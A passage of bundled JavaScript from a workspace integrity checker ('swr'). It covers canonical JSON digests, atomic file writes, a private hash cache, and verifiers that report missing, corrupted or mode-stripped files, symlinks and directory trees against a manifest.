/** Up to three sentinels: known markers at the root, then the deepest non-empty file. */
function pickSentinels(files) {
    const set = new Set(files);
    const picked = MARKERS.filter(m => set.has(m)).slice(0, 2);
    const deepest = [...files]
        .filter(f => !f.split('/').some(s => VOLATILE_DIRS.has(s)))
        .sort((a, b) => b.split('/').length - a.split('/').length || (a < b ? -1 : 1))[0];
    if (deepest && !picked.includes(deepest))
        picked.push(deepest);
    return picked;
}

;// CONCATENATED MODULE: ./node_modules/canonicalize/lib/canonicalize.js
function hasLoneSurrogate (value) {
  for (let i = 0; i < value.length; i++) {
    const code = value.charCodeAt(i);

    if (code >= 0xD800 && code <= 0xDBFF) {
      if (i === value.length - 1) {
        return true;
      }
      const next = value.charCodeAt(i + 1);
      if (!(next >= 0xDC00 && next <= 0xDFFF)) {
        return true;
      }
      i++;
    } else if (code >= 0xDC00 && code <= 0xDFFF) {
      return true;
    }
  }

  return false;
}

function canonicalize (object, seen = new Set()) {
  if (typeof object === 'number' && isNaN(object)) {
    throw new Error('NaN is not allowed');
  }

  if (typeof object === 'number' && !isFinite(object)) {
    throw new Error('Infinity is not allowed');
  }

  if (typeof object === 'string' && hasLoneSurrogate(object)) {
    throw new Error('Lone surrogate is not allowed');
  }

  if (object === null || typeof object !== 'object') {
    return JSON.stringify(object);
  }

  if (typeof object.toJSON === 'function') {
    if (seen.has(object)) {
      throw new Error('Circular reference detected');
    }
    seen.add(object);
    const result = canonicalize(object.toJSON(), seen);
    seen.delete(object);
    return result;
  }

  if (seen.has(object)) {
    throw new Error('Circular reference detected');
  }
  seen.add(object);

  let result;
  if (Array.isArray(object)) {
    const values = object.map((cv) => {
      const value = cv === undefined || typeof cv === 'symbol' ? null : cv;
      return canonicalize(value, seen);
    });
    result = `[${values.join(',')}]`;
  } else {
    const parts = [];
    for (const key of Object.keys(object).sort()) {
      if (object[key] === undefined || typeof object[key] === 'symbol') {
        continue;
      }
      parts.push(`${canonicalize(key)}:${canonicalize(object[key], seen)}`);
    }
    result = `{${parts.join(',')}}`;
  }

  seen.delete(object);
  return result;
}

;// CONCATENATED MODULE: ./src/core/manifest/canonical.ts
/**
 * The one canonical form of a manifest body (RFC 8785, JCS) and the digest derived from it. Only
 * values from the strict parser reach here, so the text a reviewer read is the text that is hashed.
 */



/** RFC 8785 bytes of `value`. */
function canonicalBytes(value) {
    const text = canonicalize(value);
    if (text === undefined)
        throw new InternalError('value has no canonical JSON form');
    return Buffer.from(text, 'utf8');
}
/** sha256 (hex) of the canonical body: the manifest digest shown to people and used as cache key. */
function manifestDigest(body) {
    return (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(body)).digest('hex');
}

;// CONCATENATED MODULE: ./src/core/report/report.ts
/**
 * The check report: one versioned object that the JSON output prints as is, and that the text,
 * Markdown and SARIF renderers read. Its schema is published in schema/report-v1.schema.json.
 */


const REPORT_SCHEMA = 'swr.report/1';
function buildReport(input) {
    const byStatus = Object.fromEntries(STATUSES.map(s => [s, 0]));
    for (const f of input.findings)
        byStatus[f.status]++;
    const damaged = input.findings.filter(isDamaged).length;
    const m = input.manifest;
    return {
        schema: REPORT_SCHEMA,
        command: input.command,
        tool: { name: 'swr', version: input.version },
        manifest: {
            path: m.file,
            format: m.format,
            digest: m.digest,
            version: m.body.version,
            workspace: m.workspace
        },
        verdict: damaged === 0 ? 'healthy' : 'damaged',
        summary: {
            entries: input.findings.length,
            ok: input.findings.length - damaged,
            damaged,
            by_status: byStatus
        },
        diagnosis: diagnose(input.findings, input.fixCommand, input.manifest.body.entries),
        results: input.findings,
        options: input.options,
        timing: { started: input.started.toISOString(), ms: Math.round(input.ms) },
        notes: m.notes
    };
}

;// CONCATENATED MODULE: ./src/core/state/atomic.ts
/**
 * Writes that never leave a half-written file and never clobber what they did not mean to: data
 * goes to a new file with a random name, created exclusively beside the target, written to the last
 * byte, fsynced, its size checked, then renamed over the target. A full disk (or a quota, or an I/O
 * error) removes the new file, leaves the target as it was, and becomes one line with
 * EXIT.WRITE_FAILED.
 */




/**
 * Write every byte of `buf` at the descriptor's position: `write(2)` may write fewer bytes than
 * asked (a nearly full disk, a signal), and the rest must follow, or the error must surface.
 */
function writeAll(fd, buf) {
    let off = 0;
    while (off < buf.length) {
        const n = external_node_fs_default().writeSync(fd, buf, off, buf.length - off);
        // write(2) returning 0 for a non-empty buffer is a full device that did not say ENOSPC.
        if (n <= 0)
            throw Object.assign(new Error('short write'), { code: 'ENOSPC' });
        off += n;
    }
}
/** `err` as a one-line SwrError when the disk caused it; anything else unchanged. */
function asWriteError(err, what) {
    return diskError(err, what) ?? err;
}
/** Write `data` to `file` atomically; the directory must exist. */
function writeFileAtomic(file, data, opts = {}) {
    const bytes = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
    const dir = external_node_path_default().dirname(file);
    const tmp = external_node_path_default().join(dir, `.${external_node_path_default().basename(file)}.${(0,external_node_crypto_.randomBytes)(8).toString('hex')}.tmp`);
    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
    let fd;
    try {
        fd = external_node_fs_default().openSync(tmp, flags, opts.mode ?? 0o644);
    }
    catch (err) {
        throw asWriteError(err, file);
    }
    try {
        try {
            writeAll(fd, bytes);
            if (opts.mode !== undefined)
                external_node_fs_default().fchmodSync(fd, opts.mode);
            external_node_fs_default().fsyncSync(fd);
            // The length on disk, not the count we believe we wrote, decides whether it replaces the target.
            const size = external_node_fs_default().fstatSync(fd).size;
            if (size !== bytes.length)
                throw new SwrError(`cannot write ${file}: ${size} of ${bytes.length} bytes reached the disk; the original is unchanged`, EXIT.WRITE_FAILED);
        }
        finally {
            external_node_fs_default().closeSync(fd);
        }
        if (opts.exclusive) {
            // link() fails when the target exists, so a concurrent creator is never overwritten.
            external_node_fs_default().linkSync(tmp, file);
            external_node_fs_default().unlinkSync(tmp);
        }
        else {
            external_node_fs_default().renameSync(tmp, file);
        }
    }
    catch (err) {
        external_node_fs_default().rmSync(tmp, { force: true });
        throw asWriteError(err, file);
    }
}
/**
 * Append one record with a single descriptor: every byte or a one-line error. A record torn by a
 * full disk is cut back off, so the file keeps only whole lines.
 */
function appendRecord(file, data, opts = {}) {
    const flags = (external_node_fs_default()).constants.O_WRONLY |
        (external_node_fs_default()).constants.O_APPEND |
        (external_node_fs_default()).constants.O_NOFOLLOW |
        (opts.create ? (external_node_fs_default()).constants.O_CREAT : 0);
    let fd;
    try {
        fd = external_node_fs_default().openSync(file, flags, opts.mode ?? 0o600);
    }
    catch (err) {
        throw asWriteError(err, file);
    }
    let before = 0;
    try {
        before = external_node_fs_default().fstatSync(fd).size;
        writeAll(fd, Buffer.from(data, 'utf8'));
        external_node_fs_default().fsyncSync(fd);
    }
    catch (err) {
        try {
            external_node_fs_default().ftruncateSync(fd, before);
        }
        catch {
            // The reader skips a torn last line anyway.
        }
        throw asWriteError(err, file);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}

;// CONCATENATED MODULE: ./src/core/state/state-dir.ts
/**
 * The private state directory (incremental cache, keys, journals): 0700, outside the workspace by
 * default. `SWR_STATE_DIR`, else `$XDG_STATE_HOME/swr`, else `~/.local/state/swr`. The shells
 * resolve it from the environment and pass it in; the engine never reads the environment.
 */


function defaultStateDir(env, home) {
    if (env.SWR_STATE_DIR)
        return external_node_path_default().resolve(env.SWR_STATE_DIR);
    if (env.XDG_STATE_HOME)
        return external_node_path_default().join(external_node_path_default().resolve(env.XDG_STATE_HOME), 'swr');
    return external_node_path_default().join(home, '.local', 'state', 'swr');
}
/** Create `dir` (and `sub`) with private modes, tightening a directory that is too open. */
function ensurePrivateDir(dir, ...sub) {
    let current = dir;
    external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
    tighten(current);
    for (const s of sub) {
        current = external_node_path_default().join(current, s);
        external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
        tighten(current);
    }
    return current;
}
function tighten(dir) {
    const st = external_node_fs_default().lstatSync(dir);
    if (!st.isDirectory())
        throw new Error(`${dir} is not a directory`);
    if ((st.mode & 0o077) !== 0)
        external_node_fs_default().chmodSync(dir, 0o700);
}

;// CONCATENATED MODULE: ./src/core/state/cache.ts
/**
 * The incremental hash cache: lets an unchanged workspace re-check without re-hashing. A cached
 * hash is used only when the file's dev, inode, size, mtime_ns and ctime_ns are all unchanged
 * (ctime cannot be set from user space, so an edit that restores mtime is still noticed), and only
 * for the same manifest file, entry id and entry content (the canonical digest of the entry, so
 * editing one entry does not throw away the hashes of the others). It stores what was observed on
 * disk, never a verdict: the expectations are compared afresh on every check.
 *
 * Files are private (0600 in a 0700 directory) and written atomically; a corrupt or foreign cache
 * file is ignored, never fatal.
 */





/** A cache that remembers nothing (`--no-cache` reads nothing; its results are still saved). */
function openCache(opts) {
    const key = (0,external_node_crypto_.createHash)('sha256')
        .update(external_node_path_default().resolve(opts.manifestFile))
        .digest('hex')
        .slice(0, 32);
    const dir = external_node_path_default().join(opts.stateDir, 'cache', key);
    const mainFile = external_node_path_default().join(dir, 'entries.json');
    // Maps, not objects: an entry id such as "__proto__" is valid and must stay plain data.
    const raw = opts.read ? readJson(mainFile, isStored) : undefined;
    const files = new Map(Object.entries(raw?.files ?? {}));
    const trees = new Map(Object.entries(raw?.trees ?? {}));
    const treeMaps = new Map();
    const dirtyMaps = new Set();
    let dirty = false;
    const digestOf = (id) => opts.entryDigests.get(id) ?? '';
    // Ids are [A-Za-z0-9._-]; a prefix keeps "." and ".." from naming directories.
    const treeFile = (id) => external_node_path_default().join(dir, `tree-${id}.json`);
    return {
        file(id, k) {
            const rec = files.get(id);
            return rec && rec.entry === digestOf(id) && rec.key === k ? rec.sha256 : undefined;
        },
        setFile(id, k, sha256) {
            files.set(id, { entry: digestOf(id), key: k, sha256 });
            dirty = true;
        },
        tree(id) {
            const rec = trees.get(id);
            return rec && rec.entry === digestOf(id) ? rec : undefined;
        },
        setTree(id, rec) {
            trees.set(id, { ...rec, entry: digestOf(id) });
            dirty = true;
        },
        treeFiles(id) {
            let map = treeMaps.get(id);
            if (!map) {
                const raw = opts.read ? readJson(treeFile(id), isTreeFiles) : undefined;
                map = raw && raw.entry === digestOf(id) ? new Map(Object.entries(raw.files)) : new Map();
                treeMaps.set(id, map);
            }
            return map;
        },
        setTreeFiles(id, files) {
            treeMaps.set(id, files);
            dirtyMaps.add(id);
        },
        flush() {
            if (!dirty && dirtyMaps.size === 0)
                return;
            try {
                ensurePrivateDir(opts.stateDir, 'cache', key);
                for (const id of dirtyMaps) {
                    const body = {
                        v: 1,
                        entry: digestOf(id),
                        files: Object.fromEntries(treeMaps.get(id) ?? [])
                    };
                    writeFileAtomic(treeFile(id), JSON.stringify(body), { mode: 0o600 });
                }
                if (dirty) {
                    const body = { v: 1, files: Object.fromEntries(files), trees: Object.fromEntries(trees) };
                    writeFileAtomic(mainFile, JSON.stringify(body), { mode: 0o600 });
                }
            }
            catch {
                // A read-only or full state directory must not fail a check.
            }
            dirty = false;
            dirtyMaps.clear();
        }
    };
}
function readJson(file, guard) {
    try {
        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
        return guard(v) ? v : undefined;
    }
    catch {
        return undefined;
    }
}
function isStored(v) {
    const s = v;
    return (typeof s === 'object' &&
        s !== null &&
        s.v === 1 &&
        typeof s.files === 'object' &&
        s.files !== null &&
        typeof s.trees === 'object' &&
        s.trees !== null);
}
function isTreeFiles(v) {
    const s = v;
    return (typeof s === 'object' &&
        s !== null &&
        s.v === 1 &&
        typeof s.entry === 'string' &&
        typeof s.files === 'object' &&
        s.files !== null &&
        !Array.isArray(s.files) &&
        Object.values(s.files).every(x => typeof x === 'string'));
}

;// CONCATENATED MODULE: ./src/core/verify/verifier.ts

function isPending(i) {
    return 'judge' in i;
}
/**
 * 1500000 → "1,500,000". By hand, not Intl.NumberFormat: creating a formatter initialises ICU,
 * measured at ~25 ms, a tenth of a whole check of a small workspace.
 */
function num(n) {
    if (!Number.isSafeInteger(n))
        return String(n);
    return String(n).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
}
/** Signed difference, "+12" / "-1,500,000". */
function delta(found, wanted) {
    const d = found - wanted;
    return `${d > 0 ? '+' : '-'}${num(Math.abs(d))}`;
}
/** First 12 hex digits: enough to tell hashes apart in a report, never the whole secret-ish value. */
function verifier_short(hash) {
    return hash.slice(0, 12);
}
function finding(e, status, reason, detail, recorded, found, cached = false) {
    return {
        id: e.id,
        kind: e.kind,
        path: e.path,
        tier: e.tier,
        status,
        reason,
        detail,
        recorded,
        found,
        cached
    };
}
/**
 * The entry on disk when it exists with the wanted type; otherwise the MISSING finding (absent, or
 * a parent leading outside the workspace) or the TYPE finding every verifier starts with.
 */
function locateAs(e, ctx, recorded, noun, is, want) {
    const loc = locateInside(ctx.workspace, e.path);
    if (loc.state !== 'present') {
        const reason = loc.state === 'escapes' ? 'escapes' : 'absent';
        return finding(e, 'MISSING', reason, `${noun} ${loc.why}`, recorded, { type: 'none' });
    }
    if (!is(loc.st)) {
        const t = typeName(loc.st);
        return finding(e, 'TYPE', 'type', `is a ${t} (want ${want})`, recorded, { type: t });
    }
    return { abs: loc.abs, st: loc.st };
}
function isFinding(x) {
    return 'status' in x;
}

;// CONCATENATED MODULE: ./src/core/verify/blob.ts
/**
 * `blob` entries: large files (models, archives) checked by exact byte count and a head/tail digest
 * that reads 2 MiB whatever the size, so a 2 GB model is checked in milliseconds. A truncated
 * download always has the wrong size; the head/tail digest catches a different file of the same
 * size. `--deep` also compares the full sha256 when one was recorded.
 */




function verifyBlob(e, ctx) {
    const want = e.expect;
    const recorded = {
        type: 'file',
        size: want.size,
        headtail: verifier_short(want.headtail),
        ...(want.mode ? { mode: want.mode } : {})
    };
    const loc = locateAs(e, ctx, recorded, 'blob', st => st.isFile(), 'a regular file');
    if (isFinding(loc))
        return loc;
    const st = loc.st;
    const size = Number(st.size);
    const mode = Number(st.mode & 4095n);
    const found = { type: 'file', size, mode: octal(mode) };
    if (size !== want.size) {
        const how = size < want.size ? 'truncated' : 'grown';
        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)}): ${how}`;
        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
    }
    const key = identity(st);
    const fullCached = want.sha256 && ctx.deep ? ctx.cache.file(e.id, key) : undefined;
    const jobs = [{ abs: loc.abs, how: 'headtail', cost: Math.min(size, 2 * MIB) }];
    const wantFull = ctx.deep && want.sha256 !== undefined && fullCached === undefined;
    if (wantFull)
        jobs.push({ abs: loc.abs, how: 'full', cost: size });
    return {
        jobs,
        judge: ([ht, full]) => {
            if (!ht || 'error' in ht) {
                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${ht && 'error' in ht ? ht.error : 'EIO'})`, recorded, found);
            }
            if (ht.sha256 !== want.headtail) {
                const detail = `head/tail digest ${verifier_short(ht.sha256)} (want ${verifier_short(want.headtail)}): different bytes at the same size`;
                return finding(e, 'CORRUPT', 'headtail', detail, recorded, {
                    ...found,
                    headtail: verifier_short(ht.sha256)
                });
            }
            let sha = fullCached;
            if (wantFull && full && !('error' in full)) {
                sha = full.sha256;
                if (full.size === size)
                    ctx.cache.setFile(e.id, key, sha);
            }
            if (want.sha256 && sha !== undefined && sha !== want.sha256) {
                const detail = `sha256 ${verifier_short(sha)} (want ${verifier_short(want.sha256)}): bytes differ between head and tail`;
                return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha) }, fullCached !== undefined);
            }
            return judgeBlobMode(e, mode, recorded, found, sha !== undefined);
        }
    };
}
function judgeBlobMode(e, mode, recorded, found, deep) {
    if (e.expect.mode && lostExec(parseMode(e.expect.mode), mode)) {
        return finding(e, 'STRIPPED', 'exec', `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found);
    }
    const how = deep ? 'size, head/tail and full sha256 match' : 'size and head/tail match';
    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, ${how}`, recorded, found);
}

;// CONCATENATED MODULE: ./src/core/verify/file.ts
/**
 * `file` entries: a regular file with an exact size, sha256 and permission mode. Size is compared
 * before hashing (a different size says all a digest would), and the content outranks the mode:
 * a truncated script that also lost its exec bit is CORRUPT, not STRIPPED.
 */



function verifyFile(e, ctx) {
    const want = e.expect;
    const recorded = { type: 'file', size: want.size, mode: want.mode, sha256: verifier_short(want.sha256) };
    const loc = locateAs(e, ctx, recorded, 'file', st => st.isFile(), 'a regular file');
    if (isFinding(loc))
        return loc;
    const st = loc.st;
    const size = Number(st.size);
    const mode = Number(st.mode & 4095n);
    const found = { type: 'file', size, mode: octal(mode) };
    if (size !== want.size) {
        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)})`;
        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
    }
    const judgeContent = (sha256, cached) => {
        if (sha256 !== undefined && sha256 !== want.sha256) {
            const detail = `content changed at the same size (sha256 ${verifier_short(sha256)}, want ${verifier_short(want.sha256)})`;
            return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha256) }, cached);
        }
        return judgeMode(e, mode, { ...found, ...(sha256 ? { sha256: verifier_short(sha256) } : {}) }, cached);
    };
    if (ctx.metaOnly)
        return judgeContent(undefined, false);
    const key = identity(st);
    const cached = ctx.cache.file(e.id, key);
    if (cached !== undefined)
        return judgeContent(cached, true);
    return {
        jobs: [{ abs: loc.abs, how: 'full', cost: size }],
        judge: ([r]) => {
            if (!r || 'error' in r) {
                const code = r && 'error' in r ? r.error : 'EIO';
                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${code})`, recorded, found);
            }
            if (r.size === size)
                ctx.cache.setFile(e.id, key, r.sha256);
            return judgeContent(r.sha256, false);
        }
    };
}
function judgeMode(e, mode, found, cached) {
    const wanted = parseMode(e.expect.mode);
    const recorded = {
        type: 'file',
        size: e.expect.size,
        mode: e.expect.mode,
        sha256: verifier_short(e.expect.sha256)
    };
    if (lostExec(wanted, mode)) {
        const detail = `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`;
        return finding(e, 'STRIPPED', 'exec', detail, recorded, found, cached);
    }
    if (mode !== wanted) {
        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
        return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
    }
    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, mode ${e.expect.mode}`, recorded, found, cached);
}

;// CONCATENATED MODULE: ./src/core/verify/link.ts
/**
 * `link` entries: a symlink with an exact target. Inside the workspace the chain is followed one
 * hop at a time (each hop contained), so a dangling link is BROKENLNK; a target outside the
 * workspace is never followed, and is reported as such rather than as dangling.
 */





const MAX_HOPS = 40;
function verifyLink(e, ctx) {
    const want = e.expect.target;
    const recorded = { type: 'symlink', target: want };
    const loc = locateAs(e, ctx, recorded, 'link', st => st.isSymbolicLink(), `a symlink to ${want}`);
    if (isFinding(loc))
        return loc;
    const target = external_node_fs_default().readlinkSync(loc.abs);
    const found = { type: 'symlink', target };
    const end = followInside(ctx.workspace, loc.abs, target);
    if (target !== want) {
        const where = end.state === 'outside' ? ', outside the workspace' : '';
        return finding(e, 'CORRUPT', 'target', `points to ${target}${where} (want ${want})`, recorded, found);
    }
    switch (end.state) {
        case 'ok':
            return finding(e, 'OK', 'ok', `-> ${target}`, recorded, found);
        case 'outside':
            return finding(e, 'OK', 'outside', `-> ${target} (outside the workspace, not followed)`, recorded, found);
        case 'dangling':
            return finding(e, 'BROKENLNK', 'dangling', `-> ${target}: ${end.why}`, recorded, found);
    }
}
/** Follow `target` from the link at `abs`, one contained hop at a time. */
function followInside(workspace, abs, target) {
    let from = abs;
    let to = target;
    for (let hop = 0; hop < MAX_HOPS; hop++) {
        const next = external_node_path_default().resolve(external_node_path_default().dirname(from), to);
        if (!isInside(workspace, next))
            return { state: 'outside' };
        const loc = locateInside(workspace, external_node_path_default().relative(workspace, next) || '.');
        if (loc.state === 'escapes')
            return { state: 'outside' };
        if (loc.state === 'missing')
            return { state: 'dangling', why: `${external_node_path_default().relative(workspace, next)} ${loc.why}` };
        if (!loc.st.isSymbolicLink())
            return { state: 'ok' };
        from = next;
        to = external_node_fs_default().readlinkSync(next);
    }
    return { state: 'dangling', why: `more than ${MAX_HOPS} links in a chain (a loop?)` };
}

;// CONCATENATED MODULE: ./src/core/verify/tree.ts
/**
 * `tree` entries: a directory judged by its sentinels, file-count bounds, a metadata digest and a
 * content digest over every entry. Directories survive while being emptied, so presence says
 * nothing; a sentinel catches a gutted tree, the digests catch one changed byte among thousands,
 * and the index names what changed. Warm checks re-hash only files whose identity changed.
 */






async function verifyTree(e, ctx) {
    const want = e.expect;
    const recorded = {
        type: 'directory',
        ...(want.files !== undefined ? { files: want.files } : {}),
        min_files: want.min_files,
        ...(want.max_files !== undefined ? { max_files: want.max_files } : {}),
        ...(want.meta_digest ? { meta: verifier_short(want.meta_digest) } : {})
    };
    const loc = locateAs(e, ctx, recorded, 'directory', st => st.isDirectory(), 'a directory');
    if (isFinding(loc))
        return loc;
    const root = external_node_fs_default().realpathSync(loc.abs);
    // A warm check computes only the stamp: when it equals the cached one, nothing changed since the
    // cached digests were computed, so the metadata digest is taken from the cache too.
    const cachedTree = ctx.metaOnly || !want.content_digest ? undefined : ctx.cache.tree(e.id);
    const fast = await judgeFromDigest(e, ctx, root, cachedTree, recorded);
    if (fast)
        return fast;
    // A cold content check hashes while it walks, on every core; other checks only walk.
    const hash = !ctx.metaOnly && want.content_digest !== undefined && !cachedTree;
    const walked = await walkTreeParallel(root, e.ignore, ctx.exclude, { jobs: ctx.jobs, hash });
    const walk = lazyDigests(walked, () => cachedTree && walk.stamp === cachedTree.stamp ? cachedTree.metaDigest : undefined);
    const found = { type: 'directory', files: walk.files, meta: verifier_short(walk.metaDigest) };
    const early = judgeStructure(e, ctx, root, walk, recorded, found);
    if (ctx.metaOnly || !want.content_digest) {
        return early ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
    }
    if (!early && cachedTree && cachedTree.stamp === walk.stamp) {
        return judgeContent(e, ctx, root, walk, cachedTree.contentDigest, undefined, recorded, found, true);
    }
    // Even when the structure already failed, hash the files: the report should name every file
    // whose bytes changed, not only the ones that vanished.
    return planContentHash(e, ctx, root, walk, recorded, found, early);
}
/**
 * The fast path for large trees: workers digest the tree without building records (the metadata
 * digest for --meta checks, the identity stamp for warm checks). When that shows the structure is
 * as recorded (and, warm, that nothing changed since the cached content digest), the entry is
 * judged from counts, sentinels and digests alone. Otherwise the caller walks the tree fully.
 */
async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
    const want = e.expect;
    const kind = ctx.metaOnly || !want.content_digest ? 'meta' : cachedTree ? 'stamp' : undefined;
    if (!kind)
        return undefined;
    const known = kind === 'stamp' && cachedTree?.rawStamp
        ? { raw: cachedTree.rawStamp, digest: cachedTree.stamp, files: cachedTree.files }
        : undefined;
    const r = await digestTreeParallel(root, e.ignore, ctx.exclude, {
        jobs: ctx.jobs,
        kind,
        // find's lines are trusted only through a digest they must equal: with no recorded metadata
        // digest a --meta check would judge from find's file count alone, so the Node walker counts.
        native: kind === 'stamp' || want.meta_digest !== undefined,
        expectFiles: want.files ?? want.min_files,
        ...(known ? { known } : {})
    });
    if (!r || r.unreadable.length > 0)
        return undefined;
    // The stamp matched through a full re-sort: remember find's raw bytes for the next warm check.
    if (kind === 'stamp' &&
        cachedTree &&
        r.raw &&
        r.digest === cachedTree.stamp &&
        r.raw !== cachedTree.rawStamp)
        ctx.cache.setTree(e.id, { ...cachedTree, rawStamp: r.raw });
    const metaDigest = kind === 'meta' ? r.digest : r.digest === cachedTree?.stamp ? cachedTree.metaDigest : undefined;
    if (metaDigest === undefined ||
        (want.meta_digest !== undefined && metaDigest !== want.meta_digest))
        return undefined;
    let full;
    const records = () => (full ??= walkTree(root, e.ignore, ctx.exclude));
    const walk = {
        get records() {
            return records().records;
        },
        files: r.files,
        unreadable: [],
        metaDigest,
        get stamp() {
            return stampOf(records().records);
        }
    };
    const found = { type: 'directory', files: r.files, meta: verifier_short(metaDigest) };
    if (judgeStructure(e, ctx, root, walk, recorded, found))
        return undefined;
    if (kind === 'meta')
        return finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
    return judgeContent(e, ctx, root, walk, cachedTree?.contentDigest ?? '', undefined, recorded, found, true);
}
/** Fold the per-file content differences into a structural finding. */
function withContentDiff(early, e, ctx, walk, shas) {
    if (!early.files)
        return early;
    const index = ctx.readIndex(e.id, e.expect.index);
    if (!index)
        return early;
    const d = diffIndex(index, walk.records, shas);
    // Only a content or target change adds anything: mode-only differences were already named.
    if (!d.contentChanged)
        return early;
    const stripped = early.status === 'STRIPPED';
    const kept = early.detail
        .split('; ')
        .filter(p => p.startsWith('sentinel ') || p.includes(' files (want'));
    return {
        ...early,
        status: stripped ? 'CORRUPT' : early.status,
        reason: stripped ? 'content' : early.reason,
        files: d.diff,
        detail: [...kept, describeDiff(d.diff)].join('; ')
    };
}
/** Everything that needs no hashing: emptiness, sentinels, unreadable parts, counts, metadata. */
function judgeStructure(e, ctx, root, walk, recorded, found) {
    const want = e.expect;
    if (walk.files === 0 && (want.files ?? want.min_files) > 0) {
        const detail = `directory holds no files (want ${num(want.files ?? want.min_files)})`;
        return finding(e, 'EMPTY', 'empty', detail, recorded, found);
    }
    const problems = [];
    const sentinels = checkSentinels(root, want.sentinels);
    if (sentinels.length > 0)
        problems.push(...sentinels);
    if (walk.unreadable.length > 0) {
        problems.push(`unreadable: ${walk.unreadable.map(u => `${u.rel} (${u.code})`).join(', ')}`);
    }
    if (walk.files < want.min_files)
        problems.push(`${num(walk.files)} files (want at least ${num(want.min_files)})`);
    if (want.max_files !== undefined && walk.files > want.max_files) {
        problems.push(`${num(walk.files)} files (want at most ${num(want.max_files)})`);
    }
    let files;
    let execOnly = false;
    if (want.meta_digest && walk.metaDigest !== want.meta_digest) {
        const index = ctx.readIndex(e.id, want.index);
        if (index) {
            const d = diffIndex(index, walk.records);
            files = d.diff;
            execOnly = d.execLossOnly;
            problems.push(describeDiff(d.diff));
        }
        else {
            problems.push(`metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
        }
    }
    if (problems.length === 0)
        return undefined;
    const stripped = execOnly && problems.length === 1;
    const reason = stripped ? 'exec' : sentinels.length > 0 ? 'sentinel' : files ? 'files' : 'count';
    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, problems.join('; '), recorded, found);
    return files ? { ...f, files } : f;
}
function checkSentinels(root, sentinels) {
    const out = [];
    for (const s of sentinels) {
        const loc = locateInside(root, s);
        if (loc.state !== 'present')
            out.push(`sentinel missing: ${s}`);
        else if (loc.st.isFile() && loc.st.size === 0n)
            out.push(`sentinel empty: ${s}`);
    }
    return out;
}
function describeDiff(d) {
    const parts = [];
    const list = (xs, total) => xs.slice(0, 3).join(', ') + (total > 3 ? `, ... (+${num(total - 3)})` : '');
    if (d.counts.missing > 0)
        parts.push(`${num(d.counts.missing)} missing: ${list(d.missing, d.counts.missing)}`);
    if (d.counts.extra > 0)
        parts.push(`${num(d.counts.extra)} extra: ${list(d.extra, d.counts.extra)}`);
    if (d.counts.changed > 0) {
        const shown = d.changed.map(c => `${c.path} (${c.what})`);
        parts.push(`${num(d.counts.changed)} changed: ${list(shown, d.counts.changed)}`);
    }
    return parts.join('; ') || 'entries differ';
}
/** Hash what the per-file cache cannot vouch for, then judge the content digest. */
function planContentHash(e, ctx, root, walk, recorded, found, early) {
    const known = ctx.cache.treeFiles(e.id);
    const shas = linkTargets(root, walk.records);
    const jobs = [];
    const jobIndex = [];
    walk.records.forEach((r, i) => {
        if (r.type !== 'f')
            return;
        const pre = walk.shas?.[i];
        if (pre !== undefined) {
            shas[i] = pre;
            return;
        }
        const hit = known.get(r.rel);
        const key = `${ident(r)} ${r.size}`;
        if (hit && hit.startsWith(key + ' '))
            shas[i] = hit.slice(key.length + 1);
        else {
            jobs.push({ abs: `${root}/${r.rel}`, how: 'full', cost: r.size });
            jobIndex.push(i);
        }
    });
    return {
        jobs,
        judge: (results) => {
            const unreadable = [];
            results.forEach((res, k) => {
                const i = jobIndex[k] ?? 0;
                if ('error' in res)
                    unreadable.push(walk.records[i]?.rel ?? '?');
                else
                    shas[i] = res.sha256;
            });
            const digest = contentDigest(walk.records, shas);
            const files = new Map();
            walk.records.forEach((r, i) => {
                if (r.type === 'f' && shas[i])
                    files.set(r.rel, `${ident(r)} ${r.size} ${shas[i]}`);
            });
            ctx.cache.setTreeFiles(e.id, files);
            if (unreadable.length === 0) {
                ctx.cache.setTree(e.id, {
                    stamp: walk.stamp,
                    metaDigest: walk.metaDigest,
                    contentDigest: digest,
                    files: walk.files
                });
            }
            if (early)
                return withContentDiff(early, e, ctx, walk, shas);
            if (unreadable.length > 0) {
                const detail = `unreadable files: ${unreadable.slice(0, 3).join(', ')}${unreadable.length > 3 ? ', ...' : ''}`;
                return finding(e, 'CORRUPT', 'unreadable', detail, recorded, found);
            }
            return judgeContent(e, ctx, root, walk, digest, shas, recorded, found, jobs.length === 0);
        }
    };
}
function judgeContent(e, ctx, root, walk, digest, shas, recorded, found, cached) {
    if (digest === e.expect.content_digest) {
        return finding(e, 'OK', 'ok', okDetail(e, walk, true), recorded, found, cached);
    }
    const index = ctx.readIndex(e.id, e.expect.index);
    let files;
    let detail = `content digest ${verifier_short(digest)} (want ${verifier_short(e.expect.content_digest ?? '')}): same names, sizes and modes, different bytes`;
    if (index) {
        const extra = shas ?? contentExtras(root, walk);
